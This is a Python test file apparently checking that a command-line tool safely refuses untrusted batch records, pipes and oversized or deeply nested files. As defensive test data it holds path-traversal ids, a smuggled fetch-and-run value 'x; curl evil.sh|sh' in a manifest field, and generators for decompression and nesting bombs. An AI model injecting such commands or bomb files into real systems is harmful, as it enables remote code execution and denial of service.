"""What somebody else's files may do: be read, or be refused in one line. They steer no path, no terminal and no shell."""

import io
import json
import lzma
import os
import shutil
import subprocess
import sys
import tarfile

import pytest
from command_line import verb
from hypothesis import given
from hypothesis import strategies as st

from helpers.batch.record import RecordUnreadable, read_batch, read_run
from helpers.ground.shell import word

ONE_LINE = 600
"""Characters that a complaint may have: a screen's worth, also of a file that names 200,000 things."""


def a_batch(folder, name="001-x", **fields):
    """A batch with a run's folder called ``name``, whose record says what a stranger wants."""
    (folder / name).mkdir(parents=True)
    (folder / name / "harmless.txt").write_text("a file of the run")
    said = {"run_id": name, "batch_id": folder.name, "box": "", "notebook": "x.ipynb", **fields}
    (folder / name / "run.json").write_text(json.dumps({"schema_version": 2, **said}))
    return folder


def files_below(folder):
    return {str(path.relative_to(folder)) for path in folder.rglob("*") if path.is_file()}


@pytest.mark.parametrize("field", ["run_id", "batch_id"])
@pytest.mark.parametrize(
    "name", ["/absolute/place", "../victim", "a/../../victim", "..", ".", "", "\x1b[2J", "n" * 300]
)
def test_an_id_that_is_no_folders_name_makes_a_record_unreadable(tmp_path, field, name):
    batch = a_batch(tmp_path / "b", **{field: name})
    with pytest.raises(RecordUnreadable) as refused:
        read_run(batch / "001-x" / "run.json")
    assert len(str(refused.value)) < ONE_LINE
    assert read_batch(batch).runs == ()


def test_a_run_is_its_folders_and_a_folder_that_is_a_link_is_no_run(tmp_path):
    batch = a_batch(tmp_path / "b", run_id="002-y")
    with pytest.raises(RecordUnreadable, match="is the record of 002-y"):
        read_run(batch / "001-x" / "run.json")
    honest = a_batch(tmp_path / "c")
    (tmp_path / "d").mkdir()
    (tmp_path / "d" / "001-x").symlink_to(honest / "001-x")
    assert [run.run_id for run in read_batch(honest).runs] == ["001-x"]
    assert read_batch(tmp_path / "d").runs == ()


def test_pages_and_answers_about_a_strangers_batch_are_written_into_it_alone(tmp_path):
    batch = a_batch(tmp_path / "b", batch_id="/home/me/", run_id="../../victim")
    (tmp_path / "victim").mkdir()
    before = files_below(tmp_path)
    status = verb("status", batch)
    assert status.code == 1 and "not readable" in status.out and "../../victim\n" not in status.out
    assert verb("report", batch).code == 0
    verb("share", batch, "--out", tmp_path / "shared.html")
    assert files_below(tmp_path) - before <= {"b/index.html", "shared.html"}


@pytest.mark.skipif(shutil.which("bash") is None, reason="no bash here")
@given(text=st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=12))
def test_whatever_others_wrote_is_one_word_in_one_line_and_a_shell_reads_it_back(text):
    assert word(text).isprintable()
    script = f"LC_ALL=C.UTF-8; printf '%s' {word(text)}"
    done = subprocess.run(["bash", "-c", script], capture_output=True, check=True)
    assert done.stdout == text.encode()


def test_a_boxs_name_is_one_word_of_the_step_that_names_it(tmp_path):
    about = {
        "box": "x; curl evil.sh|sh",
        "captured_at": "now",
        "kind": "recorded",
        "tool_version": "0",
    }
    (tmp_path / "manifest.json").write_text(json.dumps({**about, "items": [], "schema_version": 1}))
    said = verb("diagnose", tmp_path, "--json").out
    assert (
        "diagnose 'x; curl evil.sh|sh'" in said
        or "x; curl" not in json.loads(said)["next_step"]["command"]
    )


# -- files that are none, or hold far more than they weigh -------------------------------------------


@pytest.mark.parametrize(
    "name, words",
    [
        ("config.json", ["fits"]),
        ("model.gguf", ["fits"]),
        ("model.safetensors", ["fits"]),
        ("server.log", ["fits"]),
        ("record.json", ["fits", "--inputs"]),
        ("trades.csv", ["vpoc"]),
        ("trades.parquet", ["vpoc"]),
        ("run.pickle", ["replay"]),
        ("run.pickle", ["diagnose"]),
        ("box.tar.gz", ["diagnose"]),
        ("error.txt", ["diagnose", "--message"]),
        ("plan.yaml", ["run", "--dry-run"]),
        ("notebook.ipynb", ["share"]),
    ],
)
def test_a_pipe_that_nobody_writes_to_is_refused_in_one_line_by_every_reader(tmp_path, name, words):
    os.mkfifo(tmp_path / name)
    done = subprocess.run(
        [sys.executable, "-m", "helpers", *words, str(tmp_path / name)],
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )
    assert done.returncode == 2 and done.stdout == ""
    assert done.stderr.count("\n") == 1 and name in done.stderr
    assert "pipe" in done.stderr or "no batch, run or notebook" in done.stderr


MEASURED = """import sys
from helpers.cli import main
code = main(sys.argv[1:])
print(open("/proc/self/status").read())
sys.exit(code)
"""


def wide_csv(path):
    path.write_text("".join(f"column{n}," for n in range(200_000)) + "x\n" + "1," * 200_000 + "1\n")


def wide_csv_with_trades(path):
    path.write_text(
        "price,volume," + ",".join(f"c{n}" for n in range(100_000)) + "\n" + "1," * 100_001 + "1\n"
    )


def wide_parquet(path):
    import pyarrow
    from pyarrow import parquet

    parquet.write_table(pyarrow.table({f"c{n}": [1] for n in range(60_000)}), path)


def packed_rows(path):
    import numpy
    import pyarrow
    from pyarrow import parquet

    zeros = numpy.zeros(5_000_000)
    parquet.write_table(pyarrow.table({"price": zeros, "volume": zeros}), path, compression="zstd")


def packed_bundle(path):
    with tarfile.open(path, "w:gz", compresslevel=1) as tar:
        for name in ("a", "b", "c", "d", "e"):
            member = tarfile.TarInfo(name)
            member.size = 32 << 20
            tar.addfile(member, io.BytesIO(bytes(member.size)))


def packed_lines(path):
    with lzma.open(path, "wb", preset=0) as file:
        for _ in range(200):
            file.write(bytes([32]) * (1 << 20))


def deep(path):
    path.write_text('{"a":' * 100_000 + "1" + "}" * 100_000)


def deep_yaml(path):
    path.write_text("name: x\nruns: " + "[" * 90_000)


def many_values(path):
    path.write_text('{"nbformat": 4, "cells": [' + "0," * 5_000_000 + "0]}")


def record_of_many_values(path):
    path.parent.joinpath("001-x").mkdir()
    path.parent.joinpath("001-x", "run.json").write_text(
        '{"cells": {' + '"a": 1,' * 2_000_000 + '"b": 1}}'
    )


@pytest.mark.parametrize(
    "make, name, words",
    [
        (wide_csv, "t.csv", ["vpoc"]),
        (wide_csv_with_trades, "t.csv", ["vpoc"]),
        (wide_parquet, "t.parquet", ["vpoc"]),
        (packed_rows, "t.parquet", ["vpoc"]),
        (packed_bundle, "b.tar.gz", ["diagnose"]),
        (packed_lines, "t.jsonl.xz", ["replay"]),
        (deep, "config.json", ["fits"]),
        (deep, "record.json", ["fits", "--inputs"]),
        (deep, "n.ipynb", ["share"]),
        (deep, "manifest.json", ["diagnose"]),
        (deep_yaml, "plan.yaml", ["run", "--dry-run"]),
        (many_values, "n.ipynb", ["share"]),
        (record_of_many_values, "batch", ["status"]),
    ],
)
def test_a_file_that_holds_more_than_it_weighs_gets_one_line_and_little_memory(
    tmp_path, make, name, words
):
    make(tmp_path / name)
    target = tmp_path if name in ("manifest.json", "batch") else tmp_path / name
    argv = [sys.executable, "-c", MEASURED, *words, str(target)]
    done = subprocess.run(argv, capture_output=True, text=True, check=False, timeout=120)
    assert done.returncode == (1 if words == ["status"] else 2), done.stderr
    assert done.stderr.count("\n") <= 1 and len(done.stderr) < ONE_LINE
    peak_kib = int(done.stdout.rpartition("VmHWM:")[2].split()[0])
    assert peak_kib < 300 << 10, f"{peak_kib >> 10} MiB"
